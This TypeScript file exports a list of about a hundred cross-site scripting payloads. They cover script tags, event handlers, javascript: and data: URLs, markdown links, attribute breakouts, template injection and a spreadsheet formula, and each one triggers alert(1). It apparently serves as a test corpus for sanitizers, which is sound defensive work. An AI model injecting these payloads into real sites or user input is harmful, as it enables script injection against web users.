const run = 'alert(1)';

/** A hundred known ways of making a page run what somebody wrote into it. Together they fit into one text answer. */
export const payloads: readonly string[] = [
  ...['script', 'SCRIPT', 'ScRiPt', 'script/x', 'script\t', 'script\n', 'script src=data:,alert(1)'].map(
    (tag) => `<${tag}>${run}</script>`,
  ),
  ...['img src=x onerror', 'IMG SRC=x ONERROR', 'img/src=x/onerror', 'img src onerror', 'image src=x onerror'].map(
    (tag) => `<${tag}=${run}>`,
  ),
  ...['body', 'svg', 'iframe', 'frameset', 'style', 'object data=x', 'link rel=stylesheet href=x'].map(
    (tag) => `<${tag} onload=${run}>`,
  ),
  ...['video src=x', 'audio src=x', 'input type=image src=x', 'embed src=x', 'object data=1'].map(
    (tag) => `<${tag} onerror=${run}>`,
  ),
  ...['input', 'select', 'textarea', 'keygen', 'a href tabindex=1'].map((tag) => `<${tag} autofocus onfocus=${run}>`),
  ...['onclick', 'onmouseover', 'onpointerenter', 'onwheel', 'oncopy', 'ondrag', 'onanimationstart'].map(
    (event) => `<b ${event}=${run}>x</b>`,
  ),
  ...['details open ontoggle', 'marquee onstart', 'video oncanplay', 'dialog open onclose', 'p onbeforematch'].map(
    (tag) => `<${tag}=${run}>`,
  ),
  ...['animate onbegin', 'set onbegin', 'animateTransform onbegin'].map((tag) => `<svg><${tag}=${run} dur=1s>`),
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'javascript&colon;'].map(
    (scheme) => `<a href="${scheme}${run}">x</a>`,
  ),
  ...['javascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'file:'].map(
    (scheme) => `[x](${scheme}${run})`,
  ),
  ...['javascript:', 'data:image/svg+xml,<svg onload=alert(1)>', 'x" onerror="alert(1)'].map((url) => `![x](${url})`),
  ...['iframe src', 'embed src', 'object data', 'form action', 'base href', 'frame src'].map(
    (tag) => `<${tag}="javascript:${run}">`,
  ),
  ...['"', "'", '`', '">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>'].map(
    (end) => `${end}<svg onload=${run}>`,
  ),
  ...[
    '" onfocus=alert(1) autofocus x="',
    "' onclick=alert(1) x='",
    '"-alert(1)-"',
    "'-alert(1)-'",
    '`$\u007balert(1)}`',
  ],
  ...[
    '$\u007balert(1)}',
    '{{alert(1)}}',
    '{{constructor.constructor("alert(1)")()}}',
    '<%= alert(1) %>',
    '#{alert(1)}',
  ],
  ...['\\u003cscript\\u003ealert(1)', '%3Cscript%3Ealert(1)', '&lt;script&gt;alert(1)', '&#60;script&#62;alert(1)'],
  ...['<math><mi xlink:href="javascript:alert(1)">x', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ...['<template><script>alert(1)</script>', '<svg><foreignObject><script>alert(1)</script>', '<x:script>alert(1)'],
  ...['<meta http-equiv=refresh content="0;javascript:alert(1)">', '<b style="width:expression(alert(1))">'],
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '__proto__[x]=alert(1)',
  '=HYPERLINK("javascript:alert(1)")',
];
